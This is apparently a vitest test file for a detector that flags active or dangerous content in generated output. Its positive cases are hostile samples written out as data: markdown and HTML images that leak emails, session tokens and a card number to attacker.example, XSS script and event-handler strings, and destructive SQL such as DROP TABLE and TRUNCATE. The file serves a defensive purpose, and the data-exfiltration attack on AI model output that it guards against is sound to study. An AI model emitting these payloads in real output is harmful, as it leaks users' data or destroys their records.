import { describe, expect, it } from 'vitest';
import { activeOutputEvidence } from './active.js';

describe('activeOutputEvidence', () => {
  it.each([
    ['![x](https://attacker.example/p.png?d=alice%40corp.example)', 'markdown-image'],
    ['![](//attacker.example/log?q=secret)', 'markdown-image'],
    ['see [here](https://attacker.example/c?session=abc123)', 'markdown-link'],
    ['![a](https://attacker.example/aGVsbG8gd29ybGQgdGhpcyBpcyBkYXRh.png)', 'markdown-image'],
    ['![a][1]\n\n[1]: https://attacker.example/x?u=bob', 'markdown-link'],
    ['<img src="https://attacker.example/t.gif?c=4111111111111111">', 'html-url'],
    ['<script>fetch("/x")</script>', 'script'],
    ['<SCRIPT src=x></SCRIPT>', 'script'],
    ['[click](javascript:alert(1))', 'script-url'],
    ['<a href="javascript:steal()">a</a>', 'script-url'],
    ['<img src=x onerror=alert(1)>', 'event-handler'],
    ['<body onload = "go()">', 'event-handler'],
    ['DROP TABLE users;', 'sql-drop'],
    ['drop table if exists "orders"', 'sql-drop'],
    ['DELETE FROM accounts WHERE 1=1', 'sql-delete'],
    ['delete from sessions;', 'sql-delete'],
    ["UPDATE users SET role = 'admin'", 'sql-update'],
    ["INSERT INTO admins (name) VALUES ('eve')", 'sql-insert'],
    ['ALTER TABLE users ADD COLUMN pw text', 'sql-alter'],
    ['TRUNCATE TABLE audit_log', 'sql-truncate'],
    ['truncate logs;', 'sql-truncate'],
  ])('%s → %s', (text, kind) => {
    expect(activeOutputEvidence(text)).toBe(kind);
  });

  it.each([
    'Here is our logo: ![logo](https://cdn.example.com/logo.png)',
    'See [the docs](https://docs.example.com/guide/setup)',
    '![diagram](./images/flow.png?raw=1)',
    'Please update the list and delete from memory what you no longer need.',
    'You can drop the table leaf when folding it.',
    'JavaScript: a language that runs in browsers.',
    'SELECT name FROM users WHERE id = 4',
    'Truncate the text to 80 characters and insert into the summary a title.',
    'The onload event fires when the page is ready.',
    '[x](mailto:someone@example.com)',
  ])('not active: %s', (text) => {
    expect(activeOutputEvidence(text)).toBeUndefined();
  });
});
